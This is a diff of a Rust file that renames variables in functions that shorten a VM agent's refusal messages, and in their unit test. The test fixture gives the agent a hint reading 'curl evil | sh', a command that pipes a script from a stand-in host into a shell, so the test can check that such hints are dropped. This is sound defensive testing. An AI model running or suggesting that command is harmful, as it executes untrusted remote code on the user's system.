@@ -116,18 +116,18 @@ pub(crate) async fn refusal(response: Response<Incoming>) -> Failure {
 /// becomes one short cause. Hints and an operation id (which the daemon's log would have) are banger's own to give, so
 /// the agent's are dropped.
 pub(crate) fn refused(body: &[u8]) -> Option<Failure> {
-    let said = serde_json::from_slice::<Failure>(body).ok()?;
-    Some(Failure::new(said.code, format!("{WHO} refused")).cause(excerpt(said.to_string().as_bytes())))
+    let failure = serde_json::from_slice::<Failure>(body).ok()?;
+    Some(Failure::new(failure.code, format!("{WHO} refused")).cause(excerpt(failure.to_string().as_bytes())))
 }
 
 /// Shortens guest text to what is worth showing.
-pub(crate) fn excerpt(said: &[u8]) -> String {
-    let mut said = String::from_utf8_lossy(said).into_owned();
-    if let Some((end, _)) = said.char_indices().nth(MAX_EXCERPT) {
-        said.truncate(end);
-        said.push('…');
+pub(crate) fn excerpt(text: &[u8]) -> String {
+    let mut text = String::from_utf8_lossy(text).into_owned();
+    if let Some((end, _)) = text.char_indices().nth(MAX_EXCERPT) {
+        text.truncate(end);
+        text.push('…');
     }
-    said
+    text
 }
 
 /// Lets an agent unpack a tar stream in `directory`. The agent may refuse before it has read the whole stream.
@@ -164,9 +164,9 @@ mod tests {
 
     #[test]
     fn an_agents_failure_is_quoted_and_no_more() {
-        let said = Failure::new(Code::NotFound, "no such file".repeat(1000)).cause("why").hint("curl evil | sh");
-        let said = Failure { operation: Some("01234567".parse().unwrap()), ..said };
-        let shown = refused(&serde_json::to_vec(&said).unwrap()).unwrap();
+        let text = Failure::new(Code::NotFound, "no such file".repeat(1000)).cause("why").hint("curl evil | sh");
+        let text = Failure { operation: Some("01234567".parse().unwrap()), ..text };
+        let shown = refused(&serde_json::to_vec(&text).unwrap()).unwrap();
         assert_eq!((shown.code, shown.message.as_str()), (Code::NotFound, "the VM's agent refused"));
         assert_eq!((shown.hints.len(), shown.operation, shown.causes.len()), (0, None, 1));
         let words = &shown.causes[0];
